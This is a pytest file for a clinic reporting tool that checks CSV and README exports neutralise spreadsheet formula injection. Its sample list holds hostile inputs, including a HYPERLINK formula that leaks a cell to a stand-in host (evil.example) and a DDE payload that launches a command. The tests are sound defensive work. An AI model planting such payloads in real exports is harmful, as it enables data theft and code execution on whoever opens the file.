"""CSV exports cannot run formulas in a spreadsheet: text cells and README lines that start
like a formula get a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from rehab.reports.tables import FORMULA_STARTS, cell, spreadsheet_safe
from tests.cli_run import clinic_env, make_small_clinic, run_rehab

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", NASTY)
def test_text_that_starts_like_a_formula_is_neutralised(text: str) -> None:
    assert cell(text) == "'" + text
    assert not cell(text).startswith(FORMULA_STARTS)


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert cell(-12.5) == "-12.5"
    assert cell(-3) == "-3"
    assert cell("Knee OA") == "Knee OA"
    assert cell("a = b") == "a = b"  # only the first character matters
    assert cell(None) == "" and cell(float("nan")) == ""
    assert spreadsheet_safe("") == ""


def test_csv_zip_readme_and_tables_from_the_cli(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    make_small_clinic(home, patient_name="=1+2 Smith")
    note = "\n".join(["Good week.", *NASTY[:4]])
    out = tmp_path / "export.zip"
    run = run_rehab("report", "--patient", "1", "-o", out, "--note", note, env=clinic_env(home))
    assert run.returncode == 0, run.stderr
    with zipfile.ZipFile(out) as archive:
        readme = archive.read("README.txt").decode("utf-8")
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        tables = {name: archive.read(name).decode("utf-8") for name in names}
    lines = readme.splitlines()
    assert all(not line.startswith(FORMULA_STARTS) for line in lines), readme
    for text in NASTY[:4]:
        assert "'" + text in lines
    assert "Good week." in lines
    for name, body in tables.items():
        for row in csv.reader(io.StringIO(body)):
            assert all(not value.startswith(("=", "+", "@")) for value in row), (name, row)
